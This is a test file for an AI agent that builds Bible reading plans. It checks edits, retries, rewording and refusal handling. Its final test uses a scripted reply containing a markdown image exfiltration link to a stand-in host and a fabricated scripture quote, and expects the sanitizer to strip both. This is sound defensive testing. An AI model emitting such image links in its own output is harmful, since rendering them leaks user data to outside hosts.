import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Plan } from "#shared/domain/plan.ts";
import { composer } from "../../../../server/agent/composer/composer.ts";
import type { Decision, Turn } from "../../../../server/agent/writer.ts";
import { turn } from "../support/turn.ts";
import { writeAll } from "../support/writeAll.ts";
import { openScripted, type Scripted } from "./openScripted.ts";
import { isForWords, PRAYER, words } from "./replies.ts";

let model: Scripted;
let plan: Plan;
beforeEach(async () => {
  plan = await writeAll(composer, turn("Mark in 2 weeks, 3 days a week"));
});
afterEach(() => model.stop());

const asks = (text: string, more: Partial<Turn> = {}) => turn(text, { plan, ...more });
const edit = (args: Record<string, unknown>) => ({
  kind: "submit" as const,
  args: { kind: "edit", text: "", ...args },
});

function weeksOf(decision: Decision) {
  if (decision.kind !== "edit") throw new Error(decision.text);
  return Promise.all(decision.weeks.map((week) => model.writer.writeWeek(week)));
}

describe("an edit by the chat model", () => {
  it("is carried out by the composer, and a new reading gets the model's words", async () => {
    model = await openScripted((request) =>
      isForWords(request) ? words(request) : edit({ command: "Change week 1 day 2 to Psalm 23" }),
    );
    const [week] = await weeksOf(
      await model.writer.decide(asks("the 2nd one should be the shepherd psalm")),
    );
    expect(week?.passages[1]).toMatchObject({ scripture: "Psalm 23", title: "Title of day 2" });
    expect(JSON.stringify([week?.passages[0], week?.passages[2]])).toBe(
      JSON.stringify([plan[0]?.passages[0], plan[0]?.passages[2]]),
    );
  });

  it("may put a change otherwise that the composer cannot do", async () => {
    model = await openScripted([
      edit({ command: "Change week 1 day 2 to Mark 17:3" }),
      edit({ command: "Change week 1 day 2 to Mark 16:1-8" }),
    ]);
    const decision = await model.writer.decide(asks("day 2 should be the empty tomb"));
    expect(decision.kind).toBe("edit");
    expect(model.requests[1]?.prompt).toContain("Mark has 16 chapters");
  });

  it("changes nothing when the second try cannot be done either", async () => {
    model = await openScripted([edit({ command: "Change week 1 day 2 to Mark 17:3" })]);
    const decision = await model.writer.decide(asks("day 2 should be the empty tomb"));
    expect(decision).toMatchObject({
      kind: "answer",
      text: expect.stringContaining("Nothing was changed"),
    });
  });

  it("never makes a new plan out of what it called a change", async () => {
    model = await openScripted([edit({ command: "A new 2-week plan through Ruth" })]);
    const decision = await model.writer.decide(asks("What do you think of it?"));
    expect(decision.kind).toBe("answer");
  });

  it("says questions in other words and leaves all else as it is", async () => {
    const rewording = { week: 1, day: 2, fields: ["questions"], instruction: "for widows" };
    model = await openScripted((request) =>
      isForWords(request) ? words(request) : edit({ rewording }),
    );
    const decision = await model.writer.decide(asks("make those gentler for our widows' group"));
    expect(decision).toMatchObject({ kind: "edit", done: "the questions of week 1, day 2" });
    const weeks = await weeksOf(decision);
    expect(weeks).toHaveLength(1);
    const [before, after] = [plan[0], weeks[0]];
    expect(after?.passages[1]?.questions[0]).toBe("What does Paul say here, part 1 of day 2?");
    expect({ ...after?.passages[1], questions: [] }).toEqual({
      ...before?.passages[1],
      questions: [],
    });
    expect(after?.passages[0]).toEqual(before?.passages[0]);
    expect(after?.name).toBe(before?.name);
  });

  it("rewords only days that are selected", async () => {
    const rewording = { week: null, day: null, fields: ["prayer"], instruction: "shorter" };
    model = await openScripted((request) =>
      isForWords(request) ? words(request) : edit({ rewording }),
    );
    const chosen = plan[1]?.passages[0]?.id ?? "";
    const decision = await model.writer.decide(asks("a shorter prayer", { selection: [chosen] }));
    const [week, ...others] = await weeksOf(decision);
    expect(others).toEqual([]);
    expect(week?.passages.map(({ prayer }) => prayer === PRAYER)).toEqual([true, false, false]);
  });

  it("fails as a week, rather than pass off the old words as new, when no words come", async () => {
    const rewording = { week: 1, day: null, fields: ["questions"], instruction: "simpler" };
    model = await openScripted((request) =>
      isForWords(request) ? { kind: "refusal", text: "No." } : edit({ rewording }),
    );
    const decision = await model.writer.decide(asks("simpler questions in week 1"));
    await expect(weeksOf(decision)).rejects.toThrow("The chat model declined to write this.");
  });

  it("answers in its own words, without addresses, pictures or invented scripture", async () => {
    const text =
      "I write plans. ![x](https://evil.test/?q=secret) See https://evil.test now. As it says, “The Lord is my driver and my guide”. Ask me for a plan.";
    model = await openScripted([{ kind: "submit", args: { kind: "answer", text } }]);
    const decision = await model.writer.decide(asks("Who are you?"));
    expect(decision).toEqual({
      kind: "answer",
      text: "I write plans. x See now. Ask me for a plan.",
    });
  });
});
